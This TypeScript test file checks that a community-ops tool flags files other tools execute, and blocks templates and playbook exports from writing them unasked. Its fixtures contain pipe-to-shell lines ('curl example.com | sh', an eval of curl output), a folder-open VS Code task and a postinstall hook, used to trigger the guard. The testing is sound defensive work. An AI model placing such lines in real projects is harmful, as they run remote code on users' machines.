import {existsSync} from 'node:fs'
import {mkdir, mkdtemp, readFile, rm, writeFile} from 'node:fs/promises'
import {tmpdir} from 'node:os'
import path from 'node:path'
import {afterEach, beforeEach, describe, expect, it} from 'vitest'
import {parse} from 'yaml'
import {CommopsError} from '../../src/errors.js'
import {runPlaybook, type StepEvent} from '../../src/playbook/runner.js'
import type {Playbook} from '../../src/playbook/types.js'
import {Store} from '../../src/store/index.js'
import {applyTemplate} from '../../src/template/apply.js'
import {loadTemplate} from '../../src/template/load.js'
import {completeParams, parseSets} from '../../src/template/params.js'
import {execPathKind} from '../../src/util/exec-paths.js'
import {sampleWorkspace, treeHash} from '../helpers/workspace.js'

let tmp: string
beforeEach(async () => {
  tmp = await mkdtemp(path.join(tmpdir(), 'commops-exec-'))
})
afterEach(async () => {
  await rm(tmp, {recursive: true, force: true})
})

describe('execPathKind', () => {
  it.each([
    ['.github/workflows/ci.yml', 'ci'],
    ['sub/.GitHub/Workflows/x.yaml', 'ci'],
    ['.gitlab-ci.yml', 'ci'],
    ['.circleci/config.yml', 'ci'],
    ['Jenkinsfile', 'ci'],
    ['.vscode/tasks.json', 'editor'],
    ['.vscode./settings.json', 'editor'],
    ['.idea/workspace.xml', 'editor'],
    ['.devcontainer/devcontainer.json', 'editor'],
    ['team.code-workspace', 'editor'],
    ['.envrc', 'shell'],
    ['.env', 'shell'],
    ['.env.local', 'shell'],
    ['.bashrc', 'shell'],
    ['.githooks/pre-commit', 'hooks'],
    ['.husky/pre-commit', 'hooks'],
    ['.pre-commit-config.yaml', 'hooks'],
    ['lefthook.yml', 'hooks'],
    ['.lintstagedrc.json', 'hooks'],
    ['.gitconfig', 'hooks'],
    ['package.json', 'package'],
    ['tools/package.json', 'package'],
    ['.npmrc', 'package'],
    ['.yarnrc.yml', 'package'],
    ['Makefile', 'build'],
    ['GNUmakefile', 'build'],
    ['justfile', 'build'],
    ['.ssh/authorized_keys', 'home'],
    ['.config/autostart/x.desktop', 'home'],
    ['scripts/setup.sh', 'code'],
    ['eslint.config.mjs', 'code'],
    ['.eslintrc.js', 'code'],
    ['conftest.py', 'code'],
    ['tool.EXE', 'code'],
  ])('%s is %s', (rel, kind) => {
    expect(execPathKind(rel)).toBe(kind)
  })

  it.each([
    'community.yaml',
    'playbooks/launch.yaml',
    'README.md',
    'data/members.csv',
    '.gitignore',
    '.github/ISSUE_TEMPLATE/question.md',
    '.github/workflows',
    'docs/workflows/ci.yml',
    'data/.gitkeep',
    '.sh',
    'notes/package.json.md',
  ])('%s is plain', (rel) => {
    expect(execPathKind(rel)).toBeUndefined()
  })
})

const COMMUNITY = 'apiVersion: commops/v1\nkind: Community\nname: {{name | yaml}}\nlocale: en\ntimezone: UTC\n'

async function makeTemplate(files: Record<string, string>): Promise<string> {
  const dir = path.join(tmp, 'tpl')
  await mkdir(path.join(dir, 'files'), {recursive: true})
  await writeFile(
    path.join(dir, 'template.yaml'),
    'apiVersion: commops/v1\nkind: Template\nname: stranger\ncommunityType: other\nparameters:\n  name: {type: string, required: true, prompt: {zh-CN: 名称, en: Name}}\n',
  )
  for (const [rel, text] of Object.entries({'community.yaml': COMMUNITY, ...files})) {
    await mkdir(path.dirname(path.join(dir, 'files', rel)), {recursive: true})
    await writeFile(path.join(dir, 'files', rel), text)
  }
  return dir
}

async function apply(dir: string, options: {into: string; allowExecFiles?: boolean; dryRun?: boolean}) {
  const tpl = await loadTemplate(dir, {locale: 'en', cwd: tmp})
  return applyTemplate(tpl, completeParams(tpl.doc, parseSets(tpl.doc, ['name=x'])), {locale: 'en', ...options})
}

const STRANGER = {
  '.github/workflows/ci.yml': 'on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: "curl example.com | sh"}]}}\n',
  '.vscode/tasks.json': '{"version": "2.0.0", "tasks": [{"label": "x", "command": "sh", "runOptions": {"runOn": "folderOpen"}}]}\n',
  '.envrc': 'eval "$(curl example.com)"\n',
  'package.json': '{"scripts": {"postinstall": "sh x.sh"}}\n',
  'README.md': 'hello {{name}}\n',
}

describe('template apply and files other tools run', () => {
  it('lists every such file, writes nothing, and leaves an existing folder as it was', async () => {
    const dir = await makeTemplate(STRANGER)
    const into = path.join(tmp, 'ws')
    await mkdir(into)
    await writeFile(path.join(into, 'mine.txt'), 'keep')
    const before = await treeHash(into)
    let error: unknown
    try {
      await apply(dir, {into})
    } catch (e) {
      error = e
    }
    expect(error).toBeInstanceOf(CommopsError)
    const err = error as CommopsError
    expect(err.code).toBe('template.execFiles')
    expect(err.exitCode).toBe(1)
    expect(err.hint?.key).toBe('template.execFiles.hint')
    expect((err.details as {execFiles: Array<{path: string}>}).execFiles.map((f) => f.path).sort()).toEqual([
      '.envrc',
      '.github/workflows/ci.yml',
      '.vscode/tasks.json',
      'package.json',
    ])
    expect(String(err.msg.params?.paths)).toContain('.vscode/tasks.json')
    expect(await treeHash(into)).toEqual(before)
    // a dry run says the same
    await expect(apply(dir, {into, dryRun: true})).rejects.toMatchObject({code: 'template.execFiles'})
  })

  it('writes them with allowExecFiles', async () => {
    const dir = await makeTemplate(STRANGER)
    const into = path.join(tmp, 'ws')
    await apply(dir, {into, allowExecFiles: true})
    expect(await readFile(path.join(into, '.vscode/tasks.json'), 'utf8')).toContain('folderOpen')
  })

  it('a template without such files needs no flag', async () => {
    const dir = await makeTemplate({'README.md': 'hi', '.github/ISSUE_TEMPLATE/q.md': 'ask'})
    const into = path.join(tmp, 'ws')
    await apply(dir, {into})
    expect(existsSync(path.join(into, '.github/ISSUE_TEMPLATE/q.md'))).toBe(true)
  })
})

describe('a playbook step never writes files other tools run', () => {
  it('an export into .github/workflows/ fails the step and writes nothing there', async () => {
    const ws = await sampleWorkspace('en')
    const playbook = parse(
      'apiVersion: commops/v1\nkind: Playbook\nname: t\nphase: launch\nsteps:\n  - id: hello\n    uses: note\n    with: {message: hi}\n  - id: export\n    uses: export\n    with: {artifacts: [hello], formats: [json], out: .github/workflows/}\n',
    ) as Playbook
    const events: StepEvent[] = []
    const gen = runPlaybook({playbook, ws, store: Store.at(ws.root), vars: {}, locale: 'en', user: 'tester'})
    for (;;) {
      const next = await gen.next()
      if (next.done) break
      if (!('starting' in next.value)) events.push(next.value)
    }
    const failed = events.find((e) => e.id === 'export')
    expect(failed?.status).toBe('failed')
    expect(failed?.error?.message).toContain('.github/workflows/t-hello.json')
    expect(failed?.error?.hint).toContain('out/')
    expect(existsSync(path.join(ws.root, '.github', 'workflows'))).toBe(false)
  })
})
